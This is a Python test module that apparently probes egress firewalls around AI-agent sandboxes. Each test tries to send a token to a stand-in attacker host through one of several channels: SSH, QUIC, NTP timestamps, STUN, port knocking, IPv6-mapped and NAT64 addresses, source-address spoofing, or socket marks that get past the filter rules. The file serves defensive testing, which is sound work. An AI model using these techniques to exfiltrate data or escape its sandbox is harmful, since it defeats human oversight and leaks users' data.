"""Raw addresses, ports and protocols, and where packets seem to come from."""
import socket
import struct
import time

from common import *

AWF207 = "github/gh-aw-firewall#207, #209, #213"


@row("port.http", "raw egress; the first test of every suite", "evil:80 raw")
def _():
    """Plain HTTP to the attacker's address."""
    tell(EVIL, 80, get(EVIL))


@row("port.ssh", "anthropics/claude-code: SSH to any host is open there", "evil:22 raw")
def _():
    """SSH to the attacker's host; the server speaks first."""
    with dial(EVIL, 22) as sock:
        listen(sock, 1.5)
        sock.sendall(b"SSH-2.0-" + T + b"\r\n")
        listen(sock)


@row("port.databases", AWF207, "evil:27017 raw")
def _():
    """Ports of databases and caches."""
    each(*(lambda port=port: tell(EVIL, port, T + b"\n", 0.2) for port in (3306, 5432, 6379, 27017)))


@row("port.smtp", f"{AWF207}; mail as a channel", "evil:25 raw")
def _():
    """Mail."""
    tell(EVIL, 25, b"EHLO " + T + b"\r\n")


@row("port.git", "git:// as a channel", "evil:9418 raw")
def _():
    """The git protocol."""
    line = b"git-upload-pack /" + T + b"\0host=evil.test\0"
    tell(EVIL, 9418, f"{len(line) + 4:04x}".encode() + line)


@row("port.high", AWF207, "evil:40000 raw")
def _():
    """A high port."""
    tell(EVIL, 40000, T + b"\n")


@row("port.listed_host_ssh", "anthropic-experimental/sandbox-runtime#274 (port not checked)", "api:22 raw")
def _():
    """SSH to a listed host, where port 22 is not listed."""
    with dial(API, 22) as sock:
        listen(sock, 1.5)
        sock.sendall(b"SSH-2.0-" + T + b"\r\n")
        listen(sock)


@row("port.ssh_on_443", "sslh; ssh.github.com:443", "api:443 raw SSH-2.0")
def _():
    """SSH on a listed host's port for TLS."""
    tell(API, 443, b"SSH-2.0-" + T + b"\r\n")


@row("port.silent_client", "protocols where the server speaks first", "api:443 silent from {port}",
     limit=4)
def _():
    """Nothing is said on the port for TLS, so that the server may speak first."""
    with socket.socket() as sock:
        sock.settimeout(2)
        # An earlier try may have used it.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("0.0.0.0", PORT))
        sock.connect((API, 443))
        listen(sock, 1.5)


@row("port.openvpn_on_443", "OpenVPN over TCP port 443", "api:443 raw")
def _():
    """A VPN on a listed host's port for TLS."""
    packet = b"\x38" + T + b"\0" * 5
    tell(API, 443, struct.pack(">H", len(packet)) + packet)


@row("port.quic", "RFC 9000; QUIC has names that no gate sees", "wire proto=17 dst=203.0.113.66 dport=443")
def _():
    """QUIC to the attacker's address."""
    udp(EVIL, 443, b"\xc3\0\0\0\1\x08" + T + b"\0" * 1200)


@row("port.quic_listed", "RFC 9000", "wire proto=17 dst=203.0.113.20 dport=443")
def _():
    """QUIC to a listed host, with whatever name inside."""
    udp(SHARED, 443, b"\xc3\0\0\0\1\x08" + T + b"\0" * 1200)


@row("port.ntp", "NTP as a channel (ntpescape)", "wire dport=123")
def _():
    """NTP with data in its timestamps."""
    udp(EVIL, 123, b"\x23" + T.ljust(47, b"_"))


@row("port.stun", "coder/boundary#149 (UDP); TURN relays", "wire dport=3478")
def _():
    """STUN, by which relays are found."""
    udp(EVIL, 3478, struct.pack(">HHI", 1, 12, 0x2112A442) + b"t" * 12 + struct.pack(">HH", 0x8022, 8) + T)


@row("port.wireguard", "coder/boundary#149 (UDP)", "wire dport=51820")
def _():
    """A VPN over UDP."""
    udp(EVIL, 51820, b"\1\0\0\0" + T.ljust(144, b"_"))


@row("port.syslog", "syslog as a channel", "wire dport=514")
def _():
    """A log message over UDP."""
    udp(EVIL, 514, b"<13>" + T)


@row("port.dtls", "RFC 9147", "wire dport=4433")
def _():
    """DTLS."""
    udp(EVIL, 4433, b"\x16\xfe\xfd" + b"\0" * 8 + T)


@row("port.knock", "port knocking: the ports are the data", "wire proto=6 dst=203.0.113.66 dport={port}")
def _():
    """Connections that never come about, whose port numbers are the data."""
    with socket.socket() as sock:
        sock.settimeout(0.5)
        sock.connect_ex((EVIL, PORT))


@row("port.source_port", "port knocking: the ports are the data", "wire proto=6 dst=203.0.113.66 sport={port}")
def _():
    """The data is in the port that a connection comes from."""
    with socket.socket() as sock:
        sock.settimeout(0.5)
        sock.bind(("0.0.0.0", PORT))
        sock.connect_ex((EVIL, 40000))


@row("port.fast_open", "RFC 7413: data in the first packet", "evil:8080 raw")
def _():
    """Data before the handshake."""
    for _ in range(2):
        with socket.socket() as sock:
            sock.sendto(T + b"\n", socket.MSG_FASTOPEN, (EVIL, 8080))
            listen(sock)


@row("port.mptcp", "Pearce, Thomas: Multipath TCP (Black Hat 2014); RFC 8684", "evil:8080 raw")
def _():
    """Multipath TCP, whose sockets no filter for TCP knows."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as sock:
        sock.settimeout(2)
        sock.connect((EVIL, 8080))
        sock.sendall(T + b"\n")
        listen(sock)


@row("ipv6.tcp", "IPv6 forgotten: anthropics/claude-code's init-firewall", "evil:8080 raw")
def _():
    """The attacker's IPv6 address."""
    tell(EVIL6, 8080, T + b"\n")


@row("ipv6.udp", "IPv6 forgotten", "wire proto=17 dst=2001:db8:113::66")
def _():
    """UDP over IPv6."""
    udp(EVIL6, ECHO, T)


@row("ipv6.mapped", "RFC 4291, 2.5.5.2: ::ffff:0:0/96", "evil:8080 raw")
def _():
    """An IPv4 address in a socket for IPv6."""
    tell(f"::ffff:{EVIL}", 8080, T + b"\n")


@row("ipv6.mapped_udp", "RFC 4291, 2.5.5.2: ::ffff:0:0/96", "wire proto=17 dst=203.0.113.66")
def _():
    """An IPv4 address in a socket for IPv6, over UDP."""
    udp(f"::ffff:{EVIL}", ECHO, T)


@row("ipv6.nat64", "RFC 6052", "wire proto=17 dst=64:ff9b::cb00:7142")
def _():
    """The attacker's address behind NAT64's prefix."""
    udp("64:ff9b::203.0.113.66", ECHO, T)


@row("ipv6.six_to_four", "RFC 3056", "wire proto=17 dst=2002:cb00:7142::1")
def _():
    """The attacker's address in 6to4's form."""
    udp("2002:cb00:7142::1", ECHO, T)


@row("ipv6.neighbour", "RFC 4861: the kernel asks for whatever address is named", "wire hex=87 {t}")
def _():
    """The data is in an on-link address, for which the kernel asks all neighbours."""
    udp(f"fd30::{TOKEN[:4]}:{TOKEN[4:]}", ECHO, b"x")


FREEBIND6 = 78
TRANSPARENT = 19


@row("source.freebind6", "IPV6_FREEBIND needs no right", "wire src=2001:db8:113::99")
def _():
    """Another host's IPv6 address as the source."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, FREEBIND6, 1)
        sock.bind(("2001:db8:113::99", PORT))
        for _ in range(2):
            sock.sendto(T, (EVIL6, ECHO))


@row("source.freebind_listed", "a listed host's own address makes packets into answers", "wire proto=17 src=2001:db8:113::20")
def _():
    """A listed host's address as the source, towards ourselves first and then out."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, FREEBIND6, 1)
        sock.bind((SHARED6, 443))
        for target in (("fd30::2", 443), (EVIL6, 443), (EVIL6, ECHO)):
            try:
                sock.sendto(T, target)
            except OSError:
                pass


@row("source.pktinfo", "IP_PKTINFO names source and interface for each packet", "wire proto=17 dst=203.0.113.66")
def _():
    """The interface and the source are named for one packet."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        info = struct.pack("=I4s4s", socket.if_nametoindex("eth0"), socket.inet_aton("172.30.0.2"), b"\0" * 4)
        for _ in range(2):
            sock.sendmsg([T], [(socket.IPPROTO_IP, 8, info)], 0, (EVIL, ECHO))


@row("source.device", "SO_BINDTODEVICE since Linux 5.7 for every user", "evil:8080 raw")
def _():
    """A TCP socket that is bound to the interface."""
    with socket.socket() as sock:
        sock.settimeout(2)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        sock.connect((EVIL, 8080))
        sock.sendall(T + b"\n")
        listen(sock)


@row("source.dont_route", "SO_DONTROUTE", "wire proto=17 dst=172.30.0.3")
def _():
    """Past the routing table to a neighbour."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
        for _ in range(2):
            sock.sendto(T, (SIBLING, ECHO))
            time.sleep(0.1)


@row("source.mark", "SO_MARK: the mark that opens the table", "wire proto=17 dst=203.0.113.66")
def _():
    """The daemon's mark on a socket of one's own."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x0A5B0001)
        except OSError:
            pass
        for target in ((EVIL, 53), (EVIL, ECHO)):
            try:
                sock.sendto(T, target)
            except OSError:
                pass


@row("source.transparent", "IP_TRANSPARENT needs a right", "wire proto=17 src=203.0.113.98", user="root",
     needs="CAP_NET_ADMIN or CAP_NET_RAW, which the client does not have")
def _():
    """Another host's address as the source, as a transparent proxy has it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, TRANSPARENT, 1)
        sock.bind(("203.0.113.98", 0))
        sock.sendto(T, (EVIL, ECHO))
